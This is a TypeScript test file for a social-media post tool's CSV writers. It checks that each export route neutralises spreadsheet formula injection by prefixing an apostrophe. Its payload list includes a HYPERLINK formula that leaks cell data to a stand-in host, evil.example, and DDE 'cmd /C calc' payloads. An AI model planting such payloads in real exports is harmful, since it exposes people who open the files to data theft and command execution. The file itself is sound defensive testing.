/**
 * Spreadsheet formula injection (issue 15): a post, id or date starting with = + - @ tab or CR must never reach
 * a CSV cell raw, on any route that writes one — every `fetch` kind, `clean`, and the main job's generated.csv.
 * Each cell gets a leading `'` (OWASP's advice), and tweetlab's own readers take it off again exactly.
 */
import { promises as fsp } from 'node:fs';
import * as https from 'node:https';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { formatGeneratedCsv } from '../../src/report/report.js';
import { parsePostsCsv } from '../../src/sources/files.js';
import { neutraliseFormula, parseCsv, restoreFormula } from '../../src/util/csv.js';
import { startFakeTwitter, type FakeTwitter } from '../sources/fakes/twitter.js';
import { classify, expectHandled, runCli, Tally, tempDir } from './harness.js';
import { skeet, startScripted, toot, type ScriptedServer } from './servers.js';

const tally = new Tally('injection');
const READER = 'CSV formula injection';
const TOKEN = 'AAAA-hostile-injection-token-Zx81';
let root: string;
// eslint-disable-next-line @typescript-eslint/no-require-imports
const httpsModule = require('node:https') as typeof https;
const originalAgent = httpsModule.globalAgent;

beforeAll(async () => {
  root = await tempDir('injection');
});
afterAll(async () => {
  httpsModule.globalAgent = originalAgent;
  await tally.save();
  await fsp.rm(root, { recursive: true, force: true });
});

/** Formula payloads of the OWASP cheat sheet, one per dangerous first character. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '+SUM(1,2)',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1 tab first',
  '\r=1+1 carriage return first',
];

/** Cells of a CSV a spreadsheet would run: first character = + - @ tab or CR, plain numbers aside. */
function liveFormulaCells(csv: string): string[] {
  const t = parseCsv(csv, 'out');
  return [t.header, ...t.rows].flat().filter((v) => /^[=+\-@\t\r]/.test(v) && !/^[+-]?\d+(\.\d+)?$/.test(v));
}

/** Runs a fetch/clean command, then checks the saved CSV: no live formula, and our reader gives the posts back. */
async function expectNeutralised(argv: string[], out: string, texts: string[]): Promise<void> {
  const res = await runCli(argv);
  tally.record(READER, classify(res).outcome);
  expectHandled(res);
  const csv = await fsp.readFile(out, 'utf8');
  expect(liveFormulaCells(csv)).toEqual([]);
  expect(csv).toContain(`'=HYPERLINK(`);
  expect(parsePostsCsv(csv, out).map((p) => p.text).sort()).toEqual([...texts].sort());
}

describe('the apostrophe rule', () => {
  it('is undone exactly, also for values that already start with apostrophes', () => {
    const values = [...FORMULAS, "'=x", "''+y", "'plain", 'plain', '-5', '+3.25', '-', '=', "'", '', '@', '1e-3', '-1-1'];
    for (const v of values) expect(restoreFormula(neutraliseFormula(v))).toBe(v);
    expect(neutraliseFormula('-5')).toBe('-5');
    expect(neutraliseFormula('-1-1')).toBe("'-1-1");
    tally.record(READER, 'handled');
  });
});

describe('every route writes neutralised cells', () => {
  it('fetch csv: payloads in the id, created_at and text columns', async () => {
    const dir = await fsp.mkdtemp(path.join(root, 'csv-'));
    const input = path.join(dir, 'in.csv');
    const rows = FORMULAS.map((f, i) => `"${f.replace(/"/g, '""')}","=NOW()+${i}","${f.replace(/"/g, '""')}"`);
    await fsp.writeFile(input, `id,created_at,text\n${rows.join('\n')}\n`);
    const out = path.join(dir, 'out.csv');
    await expectNeutralised(['fetch', 'csv', input, '--out', out], out, FORMULAS.map((f) => f.replace(/\r/g, '\r')));
    const back = parsePostsCsv(await fsp.readFile(out, 'utf8'), out);
    expect(back.map((p) => p.id).sort()).toEqual([...FORMULAS].sort());
    expect(back.every((p) => p.createdAt?.startsWith('=NOW()+'))).toBe(true);
  });

  it('fetch csv re-run into the same --out adds nothing twice (ids compare after the apostrophe is undone)', async () => {
    const dir = await fsp.mkdtemp(path.join(root, 'rerun-'));
    const input = path.join(dir, 'in.jsonl');
    await fsp.writeFile(input, FORMULAS.map((f) => JSON.stringify({ id: f, text: f })).join('\n'));
    const out = path.join(dir, 'out.csv');
    await expectNeutralised(['fetch', 'csv', input, '--out', out], out, FORMULAS);
    await expectNeutralised(['fetch', 'csv', input, '--out', out], out, FORMULAS);
  });

  it('fetch archive', async () => {
    const dir = await fsp.mkdtemp(path.join(root, 'archive-'));
    const items = FORMULAS.map((f, i) => ({ tweet: { id_str: String(100 + i), full_text: f, created_at: 'Wed Oct 10 20:19:24 +0000 2018' } }));
    await fsp.writeFile(path.join(dir, 'tweets.js'), `window.YTD.tweets.part0 = ${JSON.stringify(items)}`);
    const out = path.join(dir, 'out.csv');
    await expectNeutralised(['fetch', 'archive', path.join(dir, 'tweets.js'), '--out', out], out, FORMULAS);
  });

  it('clean keeps ids and dates, and writes no live formula', async () => {
    const dir = await fsp.mkdtemp(path.join(root, 'clean-'));
    const input = path.join(dir, 'in.jsonl');
    await fsp.writeFile(input, FORMULAS.map((f, i) => JSON.stringify({ id: f, created_at: `@date${i}`, text: `${f} words stay` })).join('\n'));
    const out = path.join(dir, 'out.csv');
    const res = await runCli(['clean', '--input', input, '--out', out]);
    tally.record(READER, classify(res).outcome);
    expectHandled(res);
    const csv = await fsp.readFile(out, 'utf8');
    expect(liveFormulaCells(csv)).toEqual([]);
    expect(parsePostsCsv(csv, out).map((p) => p.id).sort()).toEqual([...FORMULAS].sort());
  });

  it('generated.csv of the main job', () => {
    const csv = formatGeneratedCsv(FORMULAS.map((f) => ({ model: '@model', epoch: 2, seed: -3, text: f, purpose: 'checkpoint' })));
    expect(liveFormulaCells(csv)).toEqual([]);
    expect(parseCsv(csv).rows[0]?.[2]).toBe('-3'); // a number stays a number
    tally.record(READER, 'handled');
  });
});

describe('network routes write neutralised cells', () => {
  let server: ScriptedServer;
  let fake: FakeTwitter;
  beforeAll(async () => {
    server = await startScripted((url) => {
      if (url.pathname === '/api/v1/accounts/lookup') return { status: 200, body: { id: '77', acct: 'frank' } };
      if (url.searchParams.has('cursor') || url.searchParams.has('max_id')) return { status: 200, body: url.pathname.includes('Feed') ? { feed: [] } : [] };
      if (url.pathname.includes('getAuthorFeed')) return { status: 200, body: { feed: FORMULAS.map((f, i) => skeet('alice.test', `f${i}`, f)) } };
      return { status: 200, body: FORMULAS.map((f, i) => toot(String(900 - i), `<p>${f.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</p>`)) };
    });
    fake = await startFakeTwitter({
      token: TOKEN,
      users: { dana: '55' },
      timelines: { '55': FORMULAS.map((f, i) => ({ id: String(1_800_000_000_000_000_000n + BigInt(i)), text: f, created_at: '2024-01-01T00:00:00.000Z' })) },
    });
    process.env['TWITTER_BEARER_TOKEN'] = TOKEN;
  });
  afterAll(async () => {
    delete process.env['TWITTER_BEARER_TOKEN'];
    httpsModule.globalAgent = originalAgent;
    await Promise.all([server.close(), fake.close()]);
  });

  it('fetch bluesky', async () => {
    const out = path.join(await fsp.mkdtemp(path.join(root, 'bsky-')), 'out.csv');
    await expectNeutralised(['fetch', 'bluesky', 'alice.test', '--appview', server.url, '--out', out], out, FORMULAS);
  });

  it('fetch mastodon', async () => {
    const out = path.join(await fsp.mkdtemp(path.join(root, 'masto-')), 'out.csv');
    const res = await runCli(['fetch', 'mastodon', 'frank', '--instance', server.url, '--out', out]);
    tally.record(READER, classify(res).outcome);
    expectHandled(res);
    const csv = await fsp.readFile(out, 'utf8');
    expect(liveFormulaCells(csv)).toEqual([]);
    expect(parsePostsCsv(csv, out).some((p) => p.text.startsWith('=HYPERLINK('))).toBe(true);
  });

  it('fetch twitter', async () => {
    httpsModule.globalAgent = fake.agent;
    const out = path.join(await fsp.mkdtemp(path.join(root, 'tw-')), 'out.csv');
    await expectNeutralised(['fetch', 'twitter', 'dana', '--out', out], out, FORMULAS);
  });
});

describe('README table', () => {
  it('test/README.md counts these cases as observed', () => {
    expect([...tally.counts.values()].every((c) => c.crash === 0)).toBe(true);
    tally.expectReadmeMatches();
  });
});
